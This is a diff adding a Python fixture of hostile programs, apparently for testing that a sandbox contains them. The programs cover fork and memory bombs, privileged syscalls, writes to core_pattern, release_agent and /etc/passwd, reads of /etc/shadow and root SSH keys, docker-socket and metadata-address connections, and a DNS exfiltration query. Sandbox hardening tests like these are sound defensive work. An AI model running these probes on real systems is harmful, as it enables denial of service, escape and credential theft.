@@ -1,0 +1,171 @@
+# ruff: noqa: E501  # a program a line
+"""Hostile programs: what each tries, and what has to come of it. They run inside sandboxes, never outside.
+
+Each is Python source. `attempt(what, function, …)` prints REFUSED where the function raised or gave a negative
+number, and DONE otherwise; a program that prints neither has proved nothing, and fails its test. Where a tier
+has a kernel of its own (gVisor, a virtual machine), what succeeds may have changed that kernel only: `own_kernel`
+says so, and the canaries on the host are the proof.
+"""
+
+from __future__ import annotations
+
+import msgspec
+
+PRELUDE = """
+import ctypes, os, signal, socket, struct, sys, time
+CANARY, PORT, ABSTRACT, SOCKET, MARK = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], sys.argv[5]
+libc = ctypes.CDLL(None, use_errno=True)
+
+def syscall(number, *arguments):
+    words = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
+    result = libc.syscall(ctypes.c_long(number), *words)
+    return result if result >= 0 else -ctypes.get_errno()
+
+def attempt(what, function, *arguments):
+    try:
+        result = function(*arguments)
+    except Exception as error:
+        print("REFUSED", what, error, flush=True)
+        return None
+    if isinstance(result, int) and not isinstance(result, bool) and result < 0:
+        print("REFUSED", what, os.strerror(-result), flush=True)
+        return None
+    print("DONE", what, repr(result)[:300], flush=True)
+    return result
+
+def write(path, data="1"):
+    with open(path, "w") as file:
+        file.write(data)
+
+def read(path):
+    with open(path, "rb") as file:
+        return file.read(4096)
+
+def connect(family, address, kind=socket.SOCK_STREAM):
+    s = socket.socket(family, kind)
+    s.settimeout(3)
+    s.connect(address)
+    return s.recv(100)
+"""
+
+
+class Program(msgspec.Struct, frozen=True):
+    name: str
+    source: str
+    reason: str = ""
+    """How it has to end, where that is what contains it."""
+    own_kernel: bool = False
+    """May succeed against the kernel of its own tier."""
+    quiet: bool = False
+    """Needs to print nothing: the reason or the canaries are the proof."""
+    seconds: float = 30.0
+
+
+def _p(name: str, source: str, **options: object) -> Program:
+    return Program(name=name, source=source, **options)  # type: ignore[arg-type]
+
+
+EXHAUSTION = (
+    _p("fork-bomb", "while True:\n    try: os.fork()\n    except OSError: os._exit(1)", reason="pids|timeout|signal|exit|oom", quiet=True, seconds=3),
+    _p("fork-bomb-that-ignores-refusals", "while True:\n    try: os.fork()\n    except OSError: pass", reason="timeout|pids|oom", quiet=True, seconds=2),
+    _p("thread-bomb", "import threading\nfor i in range(5000):\n    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()", reason="pids", quiet=True),
+    _p("memory-bomb", "x = []\nwhile True: x.append(bytearray(8 << 20))", reason="oom", quiet=True),
+    _p("memory-bomb-of-children", "for i in range(16):\n    if os.fork() == 0:\n        x = bytearray(64 << 20); time.sleep(30); os._exit(0)\nimport sys\nfor i in range(16):\n    if os.wait()[1]: sys.exit(1)", reason="oom|pids", quiet=True),
+    _p("memory-by-shared-files", "import mmap\nfd = os.open('/dev/shm/x', os.O_CREAT | os.O_RDWR)\nattempt('2 GiB of shared memory', lambda: [os.write(fd, bytes(1 << 20)) for i in range(2048)] and 1)\n"),
+    _p("memfd-bomb", "fd = os.memfd_create('x')\nwhile True: os.write(fd, bytes(8 << 20))", reason="oom", quiet=True),
+    _p("disk-bomb", "attempt('2 GiB on disk', lambda: [open('/tmp/x', 'ab').write(bytes(1 << 20)) for i in range(2048)] and 1)"),
+    _p("disk-bomb-in-every-place", "for place in ('/tmp', '/var/tmp', '/run', '/home/sandbox', '/dev/shm'):\n    attempt('1 GiB in ' + place, lambda: [open(place + '/x', 'ab').write(bytes(1 << 20)) for i in range(1024)] and 1)"),
+    _p("inode-bomb", "attempt('300,000 files', lambda: [open('/tmp/%d' % i, 'w').close() for i in range(300_000)] and 1)", seconds=60),
+    _p("sparse-file", "fd = os.open('/tmp/x', os.O_CREAT | os.O_RDWR)\nattempt('posix_fallocate 1 TiB', os.posix_fallocate, fd, 0, 1 << 40)"),
+    _p("descriptor-bomb", "attempt('100,000 descriptors', lambda: [os.open('/dev/null', 0) for i in range(100_000)] and 1)"),
+    _p("raise-own-limits", "import resource\nattempt('more descriptors', resource.setrlimit, resource.RLIMIT_NOFILE, (1 << 20, 1 << 20))"),
+    _p("output-bomb", "while True: os.write(1, b'x' * 65536)", reason="timeout", quiet=True, seconds=2),
+    _p("error-output-bomb", "while True: os.write(2, b'x' * 65536)", reason="timeout", quiet=True, seconds=2),
+    _p("spin", "while True: pass", reason="timeout", quiet=True, seconds=1),
+    _p("pipe-bomb", "attempt('4,000 full pipes', lambda: [os.write(os.pipe()[1], bytes(65536)) for i in range(4000)] and 1)"),
+    _p("deep-folders", "def deep():\n    for i in range(1_000_000):\n        os.mkdir('d'); os.chdir('d')\n    return 1\nos.chdir('/tmp')\nattempt('1,000,000 nested folders', deep)", seconds=60),
+)  # fmt: skip
+
+OUTLIVING = (
+    _p("double-fork-daemon", "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        os.execvp('sleep', ['sleep', MARK])\n    os._exit(0)\ntime.sleep(60)", reason="timeout", quiet=True, seconds=1),
+    _p("daemon-that-ignores-signals", "for n in range(1, 32):\n    try: signal.signal(n, signal.SIG_IGN)\n    except OSError: pass\nif os.fork() == 0:\n    os.setsid(); os.execvp('sleep', ['sleep', MARK])\ntime.sleep(60)", reason="timeout", quiet=True, seconds=1),
+    _p("fork-while-killed", "while True:\n    if os.fork() == 0:\n        os.setsid()\n        time.sleep(0.002)\n        if os.fork(): os._exit(0)\n    else:\n        try:\n            while os.waitpid(-1, os.WNOHANG)[0]: pass\n        except OSError: pass\n        time.sleep(0.01)", reason="timeout|pids|oom", quiet=True, seconds=1.5),
+    _p("stopped-child", "pid = os.fork()\nif pid == 0: os.execvp('sleep', ['sleep', MARK])\nos.kill(pid, signal.SIGSTOP)\ntime.sleep(60)", reason="timeout", quiet=True, seconds=1),
+    _p("kill-the-agent", "for s in (9, 15, 19, 11):\n    try: os.kill(1, s)\n    except OSError as e: print('REFUSED', e)\nprint('REFUSED: still here', os.path.exists('/proc/1'))"),
+    _p("kill-everything", "signal.signal(15, signal.SIG_IGN)\ntry: os.kill(-1, 15)\nexcept OSError: pass\nprint('REFUSED: the sandbox is still here')"),
+)  # fmt: skip
+
+KERNEL = (
+    _p("mount-proc", "attempt('mount', syscall, 165, b'proc', b'/tmp', b'proc', 0, 0)"),
+    _p("mount-bind", "attempt('bind /', syscall, 165, b'/', b'/tmp', 0, 4096, 0)"),
+    _p("remount-root-writable", "attempt('remount', syscall, 165, 0, b'/', 0, 32 | 4096, 0)"),
+    _p("new-mount-api", "attempt('open_tree', syscall, 428, -100, b'/', 1)\nattempt('fsopen', syscall, 430, b'tmpfs', 0)\nattempt('move_mount', syscall, 429, -1, b'', -1, b'', 4)"),
+    _p("umount-masks", "attempt('umount', syscall, 166, b'/proc/kcore', 2)\nattempt('umount proc', syscall, 166, b'/proc', 2)"),
+    _p("pivot-root", "attempt('pivot_root', syscall, 155, b'/tmp', b'/tmp')"),
+    _p("chroot", "attempt('chroot', os.chroot, '/tmp')"),
+    _p("unshare-user", "attempt('user namespace', syscall, 272, 0x10000000)", own_kernel=True),
+    _p("unshare-mount-and-network", "attempt('mount namespace', syscall, 272, 0x00020000)\nattempt('network namespace', syscall, 272, 0x40000000)", own_kernel=True),
+    _p("clone-with-namespaces", "attempt('clone', syscall, 56, 0x10000000 | 17, 0, 0, 0, 0)", own_kernel=True),
+    _p("clone3-with-namespaces", "a = struct.pack('<11Q', 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)\nattempt('clone3', syscall, 435, ctypes.c_char_p(a), len(a))", own_kernel=True),
+    _p("setns-of-init", "attempt('setns', lambda: syscall(308, os.open('/proc/1/ns/mnt', 0), 0))"),
+    _p("ptrace-init", "attempt('ptrace', syscall, 101, 16, 1, 0, 0)"),
+    _p("process-vm-readv", "attempt('process_vm_readv', syscall, 310, 1, 0, 0, 0, 0, 0)", own_kernel=True),
+    _p("memory-of-init", "attempt('read', read, '/proc/1/mem')\nattempt('environ', read, '/proc/1/environ')\nattempt('descriptors', os.listdir, '/proc/1/fd')\nattempt('maps', lambda: read('/proc/1/maps') or -1)", own_kernel=True),
+    _p("bpf", "attempt('bpf', syscall, 321, 0, ctypes.create_string_buffer(128), 128)"),
+    _p("io-uring", "attempt('io_uring_setup', syscall, 425, 8, ctypes.create_string_buffer(256))", own_kernel=True),
+    _p("userfaultfd", "attempt('userfaultfd', syscall, 323, 0)\nattempt('device', lambda: os.open('/dev/userfaultfd', 2))"),
+    _p("keyctl", "attempt('keyctl', syscall, 250, 0, -3, 1)\nattempt('add_key', syscall, 248, b'user', b'x', b'y', 1, -3)"),
+    _p("perf-event-open", "attempt('perf', syscall, 298, ctypes.create_string_buffer(128), 0, -1, -1, 0)"),
+    _p("kexec-and-reboot", "attempt('kexec_load', syscall, 246, 0, 0, 0, 0)\nattempt('reboot', syscall, 169, 0xfee1dead, 672274793, 0x1234567, 0)"),
+    _p("load-module", "attempt('init_module', syscall, 175, b'', 0, b'')\nattempt('finit_module', lambda: syscall(313, os.open('/usr/bin/env', 0), b'', 0))\nattempt('delete_module', syscall, 176, b'loop', 0)"),
+    _p("set-the-clock", "attempt('settimeofday', time.clock_settime, time.CLOCK_REALTIME, 0)\nattempt('adjtimex', syscall, 159, ctypes.create_string_buffer(256 ))", own_kernel=True),
+    _p("set-host-name", "attempt('sethostname', lambda: syscall(170, b'owned', 5))"),
+    _p("swap-quota-accounting", "attempt('swapon', syscall, 167, b'/tmp/x', 0)\nattempt('quotactl', syscall, 179, 0, 0, 0, 0)\nattempt('acct', syscall, 163, 0)"),
+    _p("open-by-handle", "attempt('open_by_handle_at', syscall, 304, -100, ctypes.create_string_buffer(128), 0)\nattempt('name_to_handle_at', syscall, 303, -100, b'/', ctypes.create_string_buffer(128), ctypes.create_string_buffer(8), 0)"),
+    _p("change-personality", "attempt('personality', syscall, 135, 0x0400000)", own_kernel=True),
+    _p("modify-ldt-and-iopl", "attempt('modify_ldt', syscall, 154, 1, ctypes.create_string_buffer(16), 16)\nattempt('iopl', syscall, 172, 3)\nattempt('ioperm', syscall, 173, 0, 1024, 1)"),
+    _p("type-into-the-terminal", "import fcntl\nattempt('TIOCSTI', fcntl.ioctl, 0, 0x5412, b'x')\nattempt('TIOCSTI with high bits', lambda: syscall(16, 0, 0x5412 | 1 << 40, b'x'))"),
+    _p("kernel-log", "attempt('syslog', syscall, 103, 3, ctypes.create_string_buffer(4096), 4096)\nattempt('kmsg', read, '/dev/kmsg')", own_kernel=True),
+    _p("nice-and-realtime", "attempt('nice', os.setpriority, 0, 0, -20)\nattempt('fifo', os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(99))", own_kernel=True),
+    _p("become-root", "attempt('setuid', os.setuid, 0)\nattempt('setgid', os.setgid, 0)\nattempt('setgroups', os.setgroups, [0])"),
+    _p("setuid-program", "import shutil, subprocess\nfor p in ('su', 'mount', 'passwd', 'newgrp'):\n    path = shutil.which(p)\n    if path: os.system(path + ' -c id </dev/null 2>/dev/null >/tmp/out')\nprint('REFUSED', 'euid', os.geteuid()) if os.geteuid() else print('DONE')\nattempt('root in output', lambda: -1 if b'uid=0' not in read('/tmp/out') else 1)"),
+    _p("capabilities", "h = struct.pack('<II', 0x20080522, 0)\nattempt('capset', lambda: syscall(126, ctypes.c_char_p(h), ctypes.c_char_p(struct.pack('<6I', *[0xffffffff] * 6))))\nattempt('ambient', syscall, 157, 47, 2, 21, 0, 0)"),
+)  # fmt: skip
+
+HOST = (
+    _p("write-proc-sys", "for p in ('kernel/core_pattern', 'kernel/modprobe', 'kernel/hostname', 'vm/overcommit_memory', 'net/ipv4/ip_forward', 'fs/binfmt_misc/register'):\n    attempt(p, write, '/proc/sys/' + p, '|/tmp/owned')", own_kernel=True),
+    _p("core-pattern", "attempt('core_pattern', write, '/proc/sys/kernel/core_pattern', '|/tmp/owned')\nos.kill(os.getpid(), 0)"),
+    _p("sysrq-and-kcore", "attempt('sysrq', write, '/proc/sysrq-trigger', 'b')\nattempt('kcore', lambda: read('/proc/kcore') or -1)\nattempt('kallsyms', lambda: read('/proc/kallsyms') or -1)\nattempt('timer_list', lambda: read('/proc/timer_list') or -1)"),
+    _p("write-sys", "attempt('uevent_helper', write, '/sys/kernel/uevent_helper', '/tmp/owned')\nattempt('power', write, '/sys/power/state', 'mem')\nattempt('block', os.listdir, '/sys/block')", own_kernel=True),
+    _p("cgroup-release-agent", "attempt('release_agent', write, '/sys/fs/cgroup/memory/release_agent', '/tmp/owned')\nattempt('subgroup', os.makedirs, '/sys/fs/cgroup/memory/x')\nattempt('mount cgroup', syscall, 165, b'cgroup', b'/tmp', b'cgroup', 0, b'memory')", own_kernel=True),
+    _p("raw-devices", "for d in ('mem', 'kmem', 'port', 'vda', 'sda', 'kvm', 'fuse', 'net/tun', 'loop-control', 'mapper/control', 'vhost-vsock', 'vsock', 'snapshot', 'uinput'):\n    attempt(d, os.open, '/dev/' + d, os.O_RDWR)", own_kernel=True),
+    _p("make-device", "import stat\nattempt('mknod block', os.mknod, '/tmp/vda', 0o666 | stat.S_IFBLK, os.makedev(254, 0))\nattempt('mknod mem', os.mknod, '/tmp/mem', 0o666 | stat.S_IFCHR, os.makedev(1, 1))"),
+    _p("read-the-canary", "attempt('canary', read, CANARY)\nattempt('through init', read, '/proc/1/root' + CANARY)\nattempt('through cwd', read, '/proc/1/cwd' + CANARY)\nattempt('up and up', read, '../' * 40 + CANARY)"),
+    _p("read-host-secrets", "for p in ('/etc/shadow', '/root/.ssh/id_rsa', '/root/.bashrc', '/home', '/var/lib', '/etc/ssh', '/run/secrets', '/etc/machine-id', '/var/log/syslog', '/root/.netrc'):\n    attempt(p, lambda: read(p) if not os.path.isdir(p) else ([n for n in os.listdir(p) if n != 'sandbox'] or -1))"),
+    _p("write-usr", "attempt('usr', write, '/usr/bin/owned')\nattempt('etc', write, '/etc/passwd', 'root::0:0::/:/bin/sh')\nattempt('root', write, '/owned')\nattempt('agent', lambda: os.open('/.forgewright/agent', os.O_WRONLY))\nattempt('unlink', os.unlink, '/usr/bin/env')"),
+    _p("overwrite-the-runtime", "attempt('exe of init', lambda: os.open('/proc/1/exe', os.O_WRONLY))\nattempt('self', lambda: os.open('/proc/self/exe', os.O_WRONLY))"),
+    _p("leaked-descriptors", "found = []\nfor name in os.listdir('/proc/self/fd'):\n    try: found.append((name, os.readlink('/proc/self/fd/' + name)))\n    except OSError: pass\nbad = [f for f in found if int(f[0]) > 2 and 'proc' not in f[1]]\nprint('DONE' if bad else 'REFUSED', bad)\nfor n in range(3, 64): attempt('fd %d' % n, lambda: os.listdir('/proc/self/fd/%d/../../' % n))"),
+    _p("working-directory-outside", "print('REFUSED' if os.getcwd().startswith('/') else 'DONE', os.getcwd())\nattempt('canary', read, '/proc/self/cwd/..' + CANARY)"),
+    _p("masked-path-race", "attempt('link over mask', lambda: os.symlink('/proc/sysrq-trigger', '/tmp/x'))\nattempt('write', write, '/tmp/x', 'h')", quiet=True, own_kernel=True),
+    _p("engine-environment", "import subprocess\nout = subprocess.run(['sh', '-c', 'cat /proc/*/environ; env'], capture_output=True).stdout\nprint('DONE' if b'CANARY' in out.replace(b'canary', b'') and b'FORGEWRIGHT_CANARY' in out else 'REFUSED')"),
+    _p("processes-of-the-host", "names = [open('/proc/%s/cmdline' % p, 'rb').read() for p in os.listdir('/proc') if p.isdigit()]\nprint('DONE' if len(names) > 8 or any(b'py' + b'test' in n for n in names) else 'REFUSED', len(names))"),
+    _p("mounts-tell-nothing", "text = read('/proc/self/mountinfo').decode() + read('/proc/self/mounts').decode()\nprint('DONE' if '/root/' in text.replace('/root/wt', '/x') and '.ssh' in text else 'REFUSED')"),
+    _p("host-unix-socket", "attempt('path', connect, socket.AF_UNIX, SOCKET)\nfor p in ('/var/run/docker.sock', '/run/docker.sock', '/run/containerd/containerd.sock', '/run/dbus/system_bus_socket', '/run/systemd/private', '/tmp/.X11-unix/X0'):\n    attempt(p, connect, socket.AF_UNIX, p)"),
+    _p("host-abstract-socket", "attempt('abstract', connect, socket.AF_UNIX, '\\0' + ABSTRACT)"),
+    _p("shared-memory-of-the-host", "attempt('shmget', lambda: syscall(29, 0x46570001, 0, 0))\nattempt('mqueue', lambda: syscall(240, b'fw-canary', 0, 0, 0))"),
+)  # fmt: skip
+
+NETWORK = (
+    _p("host-loopback", "attempt('127.0.0.1', connect, socket.AF_INET, ('127.0.0.1', PORT))\nattempt('::1', connect, socket.AF_INET6, ('::1', PORT))\nattempt('0.0.0.0', connect, socket.AF_INET, ('0.0.0.0', PORT))"),
+    _p("metadata-address", "attempt('v4', connect, socket.AF_INET, ('169.254.169.254', 80))\nattempt('v6', connect, socket.AF_INET6, ('fd00:ec2::254', 80))"),
+    _p("dns-exfiltration", "def ask(server):\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)\n    s.sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x06secret\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01', (server, 53))\n    return s.recv(512)\nattempt('8.8.8.8', ask, '8.8.8.8')\nattempt('resolver', socket.getaddrinfo, 'example.com', 80)"),
+    _p("raw-and-packet-sockets", "attempt('raw', socket.socket, socket.AF_INET, socket.SOCK_RAW, 1)\nattempt('packet', socket.socket, 17, socket.SOCK_RAW, 0)"),
+    _p("netlink", "attempt('netlink', socket.socket, 16, socket.SOCK_RAW, 0)\nattempt('uevent', socket.socket, 16, socket.SOCK_RAW, 15)", own_kernel=True),
+    _p("vsock-to-the-hypervisor", "attempt('vsock', socket.socket, 40, socket.SOCK_STREAM)"),
+    _p("odd-socket-families", "for family in (38, 44, 21, 29, 30, 31, 9, 3, 43, 15, 42):\n    attempt('family %d' % family, socket.socket, family, socket.SOCK_DGRAM)"),
+    _p("new-interface", "import fcntl\nattempt('tun', lambda: fcntl.ioctl(os.open('/dev/net/tun', 2), 0x400454ca, struct.pack('16sH', b'tun0', 1)))\nattempt('address', lambda: fcntl.ioctl(socket.socket(), 0x8916, struct.pack('16sH14s', b'lo', 2, b'\\0\\0' + socket.inet_aton('10.0.0.1'))))"),
+    _p("ipv6-outside", "attempt('v6', connect, socket.AF_INET6, ('2606:4700:4700::1111', 53))"),
+    _p("escape-sequences-are-bytes", "sys.stdout.write('\\x1b]0;owned\\x07\\x1b[2J\\x1b]52;c;b3duZWQ=\\x07'); print('REFUSED: bytes, for the reader to show safely')"),
+)  # fmt: skip
+
+PROGRAMS: tuple[Program, ...] = (*EXHAUSTION, *OUTLIVING, *KERNEL, *HOST, *NETWORK)
